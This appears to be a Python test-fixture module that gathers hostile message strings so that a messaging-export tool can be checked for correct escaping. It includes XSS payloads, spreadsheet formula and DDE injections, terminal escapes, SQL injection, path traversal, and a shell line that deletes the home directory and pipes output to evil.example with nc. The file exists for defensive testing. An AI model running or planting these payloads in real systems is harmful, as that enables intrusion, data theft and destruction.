"""Hostile message texts, in the spirit of the public "big list of naughty strings".

Every string here is something an ex could type, paste or script into a message. Each one is
meant to break a specific output if it is not escaped: HTML (script tags, event handlers,
javascript: URLs, CSS), spreadsheets (formula injection), terminals (ANSI and OSC escapes, C1
controls, bidi overrides), line-based readers (Unicode line separators, NUL), JSON and format
strings. The corpus is written by hand for nocontact; nothing is fetched.

``xml_ok`` says whether XML 1.0 can carry the text at all (an SMS Backup & Restore export cannot
hold NUL, most C0 controls or lone surrogates, so a real phone never writes them there).
``surrogate`` marks texts holding a lone UTF-16 surrogate: only formats that keep undecodable
bytes or ``\\udXXX`` escapes can carry them.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["NAUGHTY", "Naughty", "by_name"]


@dataclass(frozen=True)
class Naughty:
    name: str
    text: str
    xml_ok: bool = True
    surrogate: bool = False


_LONG = "A" * 100_000
_LONG_SCRIPT = "<script>alert(1)</script>" + "x" * 100_000

NAUGHTY: tuple[Naughty, ...] = (
    # --- HTML and script injection -----------------------------------------------------------
    Naughty("script_tag", "<script>alert('xss')</script>"),
    Naughty("script_tag_upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    Naughty("script_split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Naughty("img_onerror", '<img src=x onerror="alert(document.cookie)">'),
    Naughty("svg_onload", "<svg/onload=alert(1)>"),
    Naughty("body_onload", "<body onload=alert('x')>"),
    Naughty("attribute_breakout", '"><script>alert(1)</script>'),
    Naughty("single_quote_breakout", "'><img src=x onerror=alert(1)>"),
    Naughty("event_handler_attr", '" onmouseover="alert(1)" x="'),
    Naughty("javascript_url", '<a href="javascript:alert(1)">click me</a>'),
    Naughty("javascript_url_bare", "javascript:alert(String.fromCharCode(88,83,83))"),
    Naughty("data_url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    Naughty("iframe", '<iframe src="https://evil.example/"></iframe>'),
    Naughty("meta_refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    Naughty("base_href", '<base href="https://evil.example/">'),
    Naughty("form_action", '<form action="https://evil.example/"><input name=p type=password></form>'),
    Naughty("style_tag_import", "<style>@import url(https://evil.example/x.css);</style>"),
    Naughty("css_expression", '<div style="background:url(javascript:alert(1));width:expression(alert(1))">'),
    Naughty("css_import_bare", "@import 'https://evil.example/track.css';"),
    Naughty("file_url", '<img src="file:///etc/passwd"> file:///C:/Windows/win.ini'),
    Naughty("link_stylesheet", '<link rel=stylesheet href="file:///etc/passwd">'),
    Naughty("html_comment", "<!-- --><script>alert(1)</script><!-- -->"),
    Naughty("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Naughty("entities", "&lt;script&gt; &amp;amp; &#60;script&#62; &#x3C;"),
    Naughty("template_injection", "{{7*7}} {% raw %}{{ config }}{% endraw %} ${7*7} #{7*7}"),
    Naughty("htmx_attrs", '<div hx-get="/quit" hx-trigger="load">x</div>'),
    Naughty("closing_tags", "</td></tr></table></body></html><script>alert(1)</script>"),
    Naughty("textarea_breakout", "</textarea><script>alert(1)</script>"),
    Naughty("title_breakout", "</title><script>alert(1)</script>"),
    # --- spreadsheet formula injection -------------------------------------------------------
    Naughty("formula_cmd", "=cmd|' /C calc'!A0"),
    Naughty("formula_hyperlink", '=HYPERLINK("https://evil.example/?"&A1,"Click")'),
    Naughty("formula_plus", "+1+cmd|' /C calc'!A0"),
    Naughty("formula_minus", "-2+3+cmd|' /C calc'!A0"),
    Naughty("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Naughty("formula_tab", "\t=1+1"),
    Naughty("formula_cr", "\r=1+1"),
    Naughty("formula_lf", "\n=1+1"),
    Naughty("formula_dde", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
    Naughty("formula_after_quote", "'=1+1"),
    Naughty("csv_breakout", 'a","=1+1","b\r\nnext,row'),
    # --- terminal escapes --------------------------------------------------------------------
    Naughty("ansi_clear", "\x1b[2J\x1b[H you have been hacked", xml_ok=False),
    Naughty("ansi_red", "\x1b[31mRED\x1b[0m plain", xml_ok=False),
    Naughty("osc8_hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", xml_ok=False),
    Naughty("osc_title", "\x1b]0;pwned\x07", xml_ok=False),
    Naughty("c1_csi", "\x9b31m C1 CSI \x9b0m"),
    Naughty("c1_osc", "\x9d0;title\x9c"),
    Naughty("backspaces", "safe\x08\x08\x08\x08evil", xml_ok=False),
    Naughty("bell_and_del", "ding\x07 del\x7f", xml_ok=False),
    Naughty("carriage_overwrite", "I will hurt you\rI miss you     "),
    Naughty("vertical_tab_form_feed", "a\x0bb\x0cc", xml_ok=False),
    # --- bidi and invisible characters -------------------------------------------------------
    Naughty("bidi_rlo", "payment \u202egpj.exe\u202c done"),
    Naughty("bidi_isolates", "\u2066abc\u2069 \u2067def\u2069 \u2068ghi\u2069"),
    Naughty("bidi_embed", "\u202ax\u202b y\u202c z\u202d"),
    Naughty("rtl_arabic", "مرحبا، أنا أراقبك"),
    Naughty("rtl_hebrew", "אני יודע איפה את גרה"),
    Naughty("zero_width", "I\u200b will\u200c find\u200d you\ufeff\u2060"),
    Naughty("emoji_zwj", "👨‍👩‍👧‍👦 🏳️‍🌈 👩🏽‍💻 🧑‍🤝‍🧑"),
    Naughty("combining_zalgo", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0310lgo"),
    Naughty("combining_on_space", " \u0301\u0302\u0303 starts with combining marks"),
    Naughty("line_separators", "one\u2028two\u2029three\x85four"),
    Naughty("file_group_record_seps", "a\x1cb\x1dc\x1ed\x1fe", xml_ok=False),
    Naughty("nul_byte", "before\x00after", xml_ok=False),
    Naughty("only_nul", "\x00", xml_ok=False),
    Naughty("noncharacters", "\ufffe\uffff end", xml_ok=False),
    Naughty("replacement_char", "\ufffd\ufffd"),
    Naughty("astral", "𝕳𝖊𝖑𝖑𝖔 🤬 𓂀 \U0010fffd"),
    Naughty("lone_high_surrogate", "half \ud83d emoji", xml_ok=False, surrogate=True),
    Naughty("lone_low_surrogate", "\ude00 low first", xml_ok=False, surrogate=True),
    # --- SQL, JSON, format strings, paths ----------------------------------------------------
    Naughty("sql_drop", "Robert'); DROP TABLE events;--"),
    Naughty("sql_or", "' OR '1'='1' -- "),
    Naughty("sql_fts", 'body MATCH "*" OR NEAR(a b) ^ -"x"'),
    Naughty("json_breaker", '{"body": "x"}\n{"event_id": 1, "after_boundary": true}'),
    Naughty("json_escapes", 'quote " backslash \\ slash / \\u0000 \\"'),
    Naughty("format_printf", "%s%s%s%n%x%d %(body)s"),
    Naughty("format_brace", "{0} {body} {0.__class__} {!r}"),
    Naughty("rich_markup", "[bold red]ALERT[/] [link=https://evil.example/]x[/link] [/]"),
    Naughty("path_traversal", "../../../../etc/passwd ..\\..\\windows\\system32"),
    Naughty("shell", "$(rm -rf ~) `reboot` ; ls | nc evil.example 80"),
    Naughty("null_words", "null"),
    Naughty("none_words", "None undefined NaN Infinity -Infinity true"),
    Naughty("numbers", "0x0 -0 1e309 9999999999999999999999 0.1+0.2"),
    Naughty("empty_lookalike", " "),
    Naughty("whitespace_only", " \t\u3000\u00a0 "),
    Naughty("many_lines", "\n".join(f"line {i}" for i in range(2000))),
    Naughty("crlf_mix", "a\r\nb\rc\nd"),
    # --- size --------------------------------------------------------------------------------
    Naughty("long_line_100k", _LONG),
    Naughty("long_script_100k", _LONG_SCRIPT),
)


def by_name(name: str) -> Naughty:
    for n in NAUGHTY:
        if n.name == name:
            return n
    raise KeyError(name)
